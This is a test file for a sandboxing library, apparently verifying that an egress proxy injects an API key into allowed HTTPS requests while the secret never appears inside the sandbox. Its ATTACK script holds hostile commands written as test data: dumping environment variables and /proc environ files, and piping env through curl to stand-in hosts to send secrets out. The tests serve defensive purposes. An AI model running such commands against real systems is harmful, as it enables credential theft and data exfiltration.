"""
A command uses a secret, the server gets it, and nothing in the box ever holds it; whom the
box trusts is known to that box alone.
"""

from __future__ import annotations

import base64
import http.server
import json
import os
import shutil
import ssl
import threading
from contextlib import asynccontextmanager, contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from sandboxkit import NetworkPolicy, SandboxRegistry, SandboxSpec, sync
from sandboxkit.backends.bubblewrap import BubblewrapBackend
from sandboxkit.backends.landlock import LandlockBackend
from sandboxkit.errors import CommandError, EnforcementError, PolicyError, SpecError
from sandboxkit.model import Control, Grade
from sandboxkit.process import interpreter
from sandboxkit.secrets import SecretRegistry

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator, Sequence

    from sandboxkit.backends._launched import LaunchedSandbox
    from sandboxkit.egress import EgressEvent

trustme = pytest.importorskip("trustme", reason="makes the certificates")
pytest.importorskip("h11", reason="the proxy is the extra egress")
pytestmark = [pytest.mark.anyio, pytest.mark.requires("bubblewrap"), pytest.mark.timeout(240)]

CA = trustme.CA()
SECRET = "k3y/Wo+rt=42-of-the-test"
SPELLINGS = (SECRET, base64.b64encode(SECRET.encode()).decode(), SECRET.encode().hex())
PATH = {"PATH": "/usr/bin:/bin"}


@pytest.fixture
def anyio_backend() -> str:
    """
    The proxy itself is tried on both loops elsewhere.
    """
    return "asyncio"


async def resolver(host: str, _port: int) -> Sequence[str]:
    """
    No real name service is asked.
    """
    return ["127.0.0.1"] if host.endswith(".example") else []


class Server:
    """
    What a TLS server of api.example and other.example was sent, and where it is.
    """

    def __init__(self) -> None:
        self.asked: list[tuple[str, str, str]] = []
        self.connections = 0
        self.port = 0


@contextmanager
def server() -> Iterator[Server]:
    """
    Answers each request with all it was sent, in a field and in the body.
    """
    found = Server()

    class Telling(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def setup(self) -> None:
            super().setup()
            found.connections += 1

        def do_GET(self) -> None:
            sent = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
            held = self.headers.get("Authorization", "")
            found.asked.append((f"{self.command} {self.headers['Host']}{self.path}", held, sent))
            plain = held.partition(" ")[2]
            told = {"got": held, "hex": plain.encode().hex(), "base64": base64.b64encode(plain.encode()).decode()}
            body = (json.dumps(told) + "\n" + sent).encode()
            self.send_response(200)
            self.send_header("X-Got", held)
            self.send_header("Set-Cookie", f"token={plain}")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_PUT = do_GET  # noqa: N815 - the standard library's names

        def log_message(self, *_: Any) -> None:
            pass

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    CA.issue_cert("api.example", "other.example").configure_cert(context)
    served = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Telling)
    served.daemon_threads = True
    served.socket = context.wrap_socket(served.socket, server_side=True, do_handshake_on_connect=False)
    found.port = served.server_port
    thread = threading.Thread(target=served.serve_forever)
    thread.start()
    try:
        yield found
    finally:
        served.shutdown()
        served.server_close()
        thread.join()


def roots() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    CA.configure_trust(context)
    return context


def secrets(port: int) -> SecretRegistry:
    registry = SecretRegistry()
    registry.add("API_KEY", SECRET, hosts=[f"api.example:{port}"])
    return registry


def backend(port: int) -> BubblewrapBackend:
    return BubblewrapBackend(resolver=resolver, secrets=secrets(port), ssl_context=roots())


def network(port: int, **more: Any) -> NetworkPolicy:
    fields = {
        "allow_hosts": (f"https://api.example:{port}", f"https://other.example:{port}"),
        "permit_networks": ("127.0.0.1/32",),
        "inject": ({"secret": "API_KEY", "to": f"api.example:{port}/v1", "methods": ("GET", "POST")},),
    }
    return NetworkPolicy(**{**fields, **more})


@asynccontextmanager
async def box(lists: NetworkPolicy, port: int, **more: Any) -> AsyncIterator[LaunchedSandbox[Any]]:
    async with backend(port).open(SandboxSpec.isolated(network=lists, **more)) as opened:
        yield opened


def script(text: str) -> list[str]:
    return ["bash", "-c", text]


def is_told(*texts: str) -> bool:
    return any(spelling in text for spelling in SPELLINGS for text in texts)


ATTACK = """
api=https://api.example:$1 other=https://other.example:$1
env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'
curl -sSi -m9 -H "Authorization: Bearer $API_KEY" $api/v1/x
curl -sSi -m9 -u "user:$API_KEY" $api/v1/basic
curl -sSi -m9 -X PUT -H "Authorization: Bearer $API_KEY" $api/v1/x
curl -sSi -m9 -H "Authorization: Bearer $API_KEY" $api/v2/x
curl -sSi -m9 -H "Authorization: Bearer $API_KEY" --path-as-is $api/v1/../v2
curl -sSi -m9 -H "Authorization: Bearer $API_KEY" $other/v1/x
curl -sSi -m9 -H "Authorization: Bearer $API_KEY" -H "Host: other.example:$1" $api/v1/x
env | curl -sSi -m9 --data-binary @- $api/v1/dump
env | curl -sSi -m9 --data-binary @- $other/v1/dump
curl -sSi -m9 "$api/v1/q?key=$API_KEY"
"""


async def test_the_server_gets_the_secret_and_the_box_never_does() -> None:
    events: list[EgressEvent] = []
    with server() as found:
        async with box(network(found.port), found.port) as inside:
            environment = {**PATH, "API_KEY": SECRET}  # as the application has it
            attack = [*script(ATTACK), "sh", str(found.port)]
            result = await inside.run(attack, environment=environment, on_egress=events.append)
            plan = inside.plan(attack, environment=environment)
    said = result.text()
    assert "API_KEY=<API_KEY>" in said.splitlines()
    assert said.count("X-Got:") == 9, (said, result.text("stderr"))
    assert not is_told(said, result.text("stderr"), repr(result), repr(events)), said
    shown = (
        plan.describe(),
        repr(plan),
        json.dumps(plan.to_dict()),
        inside.spec.model_dump_json(),
        inside.spec.to_toml(),
    )
    assert not is_told(*shown)
    here, other = f"api.example:{found.port}", f"other.example:{found.port}"
    basic = "Basic " + base64.b64encode(f"user:{SECRET}".encode()).decode()
    assert found.asked[:2] == [(f"GET {here}/v1/x", f"Bearer {SECRET}", ""), (f"GET {here}/v1/basic", basic, "")]
    unfilled = {(line, held) for line, held, _ in found.asked[2:] if held}
    assert unfilled == {
        (f"PUT {here}/v1/x", "Bearer <API_KEY>"),
        (f"GET {here}/v2/x", "Bearer <API_KEY>"),
        (f"GET {here}/v2", "Bearer <API_KEY>"),
        (f"GET {other}/v1/x", "Bearer <API_KEY>"),
    }
    dumped = [sent for line, _, sent in found.asked if line.startswith("POST")]
    assert len(dumped) == 2
    assert not is_told(*dumped, *(line for line, _, _ in found.asked))


async def test_without_injection_it_is_everywhere() -> None:
    """
    The control: the same commands with the value itself in their environment.
    """
    with server() as found:
        async with box(network(found.port, inject=(), intercept=True), found.port) as inside:
            attack = [*script(ATTACK), "sh", str(found.port)]
            result = await inside.run(attack, environment={**PATH, "API_KEY": SECRET})
    said = result.text()
    for spelling in SPELLINGS:
        assert spelling in said
    assert f"API_KEY={SECRET}" in said
    assert f"X-Got: Bearer {SECRET}" in said
    dumped = {line.split()[1].split(":")[0]: sent for line, _, sent in found.asked if line.startswith("POST")}
    assert all(SECRET in sent for sent in dumped.values())
    assert dumped.keys() == {"api.example", "other.example"}


async def test_rules_about_methods_and_paths_hold_for_https() -> None:
    rules = ({"action": "allow", "to": "https://api.example/v1", "methods": ("GET",)},)
    asks = "for w in 'GET /v1/x' 'POST /v1/x' 'GET /v2' 'GET /v1/%2e%2e/v2'; do set -- $w; curl -so /dev/null -m9 -w '%{http_code} ' --path-as-is -X $1 https://api.example:PORT$2; done"
    with server() as found:
        asks = asks.replace("PORT", str(found.port))
        fields: dict[str, Any] = {"allow_hosts": (), "rules": rules, "inject": ()}
        async with box(network(found.port, **fields, intercept=True), found.port) as inside:
            seen = await inside.run(script(asks))
            assert inside.enforcement.grade(Control.NET_INTERCEPT) is Grade.ENFORCED
        asked = len(found.asked)
        async with box(network(found.port, **fields), found.port) as inside:
            unseen = await inside.run(script(asks))
        async with box(network(found.port, inject=()), found.port) as inside:  # the control: nobody looks inside
            control = await inside.run(script(asks.replace("curl", "curl -k")))
    assert (seen.text().split(), asked) == (["200", "403", "403", "403"], 1), seen.text("stderr")
    assert {found.target.rpartition("/")[2] for found in seen.violations} == {"x", "v2"}
    assert unseen.text().split() == ["000"] * 4  # a rule about paths says nothing about what is not seen
    assert control.text().split() == ["200"] * 4


async def test_the_authority_is_in_the_box_and_nowhere_else() -> None:
    text = (
        "stat -c '%a %F' $SSL_CERT_FILE; grep -c 'BEGIN CERT' $SSL_CERT_FILE; grep -c KEY $SSL_CERT_FILE;"
        "(echo x >$SSL_CERT_FILE) 2>/dev/null || echo kept; (rm -f $SSL_CERT_FILE) 2>/dev/null || echo stays;"
        "cat $SSL_CERT_FILE; env"
    )
    with server() as found:
        async with box(network(found.port), found.port) as inside:
            one, two = [await inside.run(script(text)) for _ in range(2)]
        async with box(network(found.port, inject=()), found.port) as inside:
            plain = await inside.run(script("env; ls /dev"))
    lines = one.text().splitlines()
    assert lines[:5] == ["444 regular file", "1", "0", "kept", "stays"], one.text("stderr")
    told = dict(line.split("=", 1) for line in lines if "=" in line and not line.startswith(("-", "M")))
    names = (
        "SSL_CERT_FILE",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "NODE_EXTRA_CA_CERTS",
        "GIT_SSL_CAINFO",
        "PIP_CERT",
    )
    assert {told[name] for name in names} == {"/dev/sandboxkit-ca.pem"}
    assert one.text() != two.text()  # each command has an authority of its own
    assert "sandboxkit-ca" not in plain.text()
    assert "SSL_CERT_FILE" not in plain.text()
    assert not os.path.exists("/dev/sandboxkit-ca.pem")


@pytest.mark.parametrize("tool", ["curl", "python", "pip", "git", "npm"])
async def test_usual_tools_accept_it_as_they_are(tool: str) -> None:
    """
    They speak with the proxy by its own certificate: the server sees a request of each.
    """
    if tool not in ("python", "pip") and shutil.which(tool) is None:
        pytest.skip(f"{tool} is not installed")
    python = interpreter()
    with server() as found:
        url = f"https://api.example:{found.port}"
        commands = {
            "curl": f"curl -sSm20 {url}/curl",
            "python": f"{python} -c 'import urllib.request as u; u.urlopen(\"{url}/python\")'",
            "pip": f"{python} -m pip --disable-pip-version-check download --no-cache-dir --retries 0 -d /tmp -i {url}/pip x",
            "git": f"git ls-remote {url}/git",
            "npm": f"npm view --fetch-retries=0 --registry={url}/npm x",
        }
        lists = network(found.port)
        async with backend(found.port).open(SandboxSpec(network=lists)) as inside:
            result = await inside.run(script(commands[tool]), timeout=60)
            asked = [line for line, _, _ in found.asked]
            assert any(f"/{tool}" in line for line in asked), (result.text(), result.text("stderr"), asked)
            without = ["env", "-u", "SSL_CERT_FILE", "-u", "CURL_CA_BUNDLE", *script(f"curl -sSm20 {url}/other")]
            if tool == "curl":  # the control: who does not trust the proxy does not speak with it
                refused = await inside.run(without)
                assert refused.exit_code == 60
                assert len(found.asked) == len(asked)


JAVA = """
public class Get {
    public static void main(String[] a) throws Exception { new java.net.URL(a[0]).openStream().readAllBytes(); }
}
"""
STORE = "-keystore /tmp/store -storepass changeit"
ONCE_TOLD = {
    "wget": ("wget -qO- -T20 -t1 {told} {url}/wget", "--ca-certificate=$SSL_CERT_FILE", "true"),
    "java": (
        "java -XX:TieredStopAtLevel=1 {told} /tmp/Get.java {url}/java",
        "-Djavax.net.ssl.trustStore=/tmp/store -Djavax.net.ssl.trustStorePassword=changeit",
        f"keytool -importcert -noprompt -alias proxy {STORE} -file $SSL_CERT_FILE",
    ),
}
"""
By tool: how it asks, what tells it whom to trust, and what makes that before. As the page
about listed hosts says.
"""


@pytest.mark.parametrize("tool", ONCE_TOLD)
async def test_other_tools_accept_it_once_told_and_reach_nothing_before(tool: str) -> None:
    if shutil.which(tool) is None:
        pytest.skip(f"{tool} is not installed")
    with server() as found:
        ask, told, before = ONCE_TOLD[tool]
        url = f"https://api.example:{found.port}"
        untold = f"cat >/tmp/Get.java; {ask.format(told='', url=url)}"
        async with backend(found.port).open(SandboxSpec(network=network(found.port))) as inside:
            if tool != "wget" or "+ssl/gnutls" in (await inside.run(["wget", "--version"])).text():
                refused = await inside.run(script(untold), stdin=JAVA.encode(), timeout=90)
                assert refused.exit_code != 0
                assert found.asked == []
            line = f"cat >/tmp/Get.java; {before} && {ask.format(told=told, url=url)}"
            result = await inside.run(script(line), stdin=JAVA.encode(), timeout=90)
        assert [row[0] for row in found.asked] == [f"GET api.example:{found.port}/{tool}"], result.text("stderr")
        assert result.ok


async def test_a_server_that_our_roots_do_not_know_gets_nothing() -> None:
    with server() as found:
        unknown = BubblewrapBackend(
            resolver=resolver, secrets=secrets(found.port), ssl_context=ssl.create_default_context()
        )
        ask = f'curl -sSm9 -H "Authorization: $API_KEY" https://api.example:{found.port}/v1/x'
        async with unknown.open(SandboxSpec.isolated(network=network(found.port))) as inside:
            result = await inside.run(script(ask))
        assert "its certificate is refused" in result.text()
        assert found.asked == []


async def test_a_command_that_is_handed_the_value_is_refused() -> None:
    async with box(network(8443), 8443) as inside:
        for spelling in SPELLINGS:
            with pytest.raises(SpecError, match="OTHER holds the value of a secret") as caught:
                await inside.run(["true"], environment={**PATH, "API_KEY": SECRET, "OTHER": f"x{spelling}"})
            assert not is_told(str(caught.value))
            with pytest.raises(CommandError, match="holds the value of a secret") as told:
                await inside.run(["echo", f"x{spelling}"], environment=PATH)
            assert not is_told(str(told.value))
            with pytest.raises(CommandError, match="holds the value of a secret"):
                await inside.run(["cat"], environment=PATH, stdin=spelling.encode())
            with pytest.raises(CommandError, match="holds the value of a secret"):
                async with inside.start(["echo", spelling], environment=PATH):
                    pass
        assert (await inside.run(["true"], environment={**PATH, "API_KEY": SECRET})).ok


async def test_what_is_missing_is_said() -> None:
    spec = SandboxSpec.isolated(network=network(8443))
    async with BubblewrapBackend(ssl_context=roots()).open(spec) as inside:
        with pytest.raises(SpecError, match="no value of the secret API_KEY is known here"):
            await inside.run(["true"])
    elsewhere = SecretRegistry()
    elsewhere.add("API_KEY", SECRET, hosts=["elsewhere.example"])
    async with BubblewrapBackend(secrets=elsewhere, ssl_context=roots()).open(spec) as inside:
        with pytest.raises(PolicyError, match=r"API_KEY is not for api\.example") as caught:
            await inside.run(["true"])
    assert not is_told(str(caught.value))


def test_programs_without_an_event_loop_hand_them_over_too() -> None:
    registry = SandboxRegistry.default(secrets=secrets(8443))
    with sync.open_sandbox(SandboxSpec.isolated(network=network(8443)), registry=registry) as inside:
        assert inside.run(["printenv", "API_KEY"], environment=PATH).text() == "<API_KEY>\n"


async def test_other_backends_refuse_such_a_spec() -> None:
    registry = SandboxRegistry.default(secrets=secrets(8443))
    found = {status.name: status for status in await registry.list(SandboxSpec.isolated(network=network(8443)))}
    assert found["bubblewrap"].missing == ()
    for name, status in found.items():
        if name not in ("bubblewrap", "docker", "podman") and status.available:
            assert any("net.intercept is absent" in sentence for sentence in status.missing), (name, status)
    only = SandboxRegistry()
    only.register(LandlockBackend())
    with pytest.raises(EnforcementError, match=r"net\.intercept is absent"):
        await only.active(SandboxSpec.isolated(network=NetworkPolicy(intercept=True)))
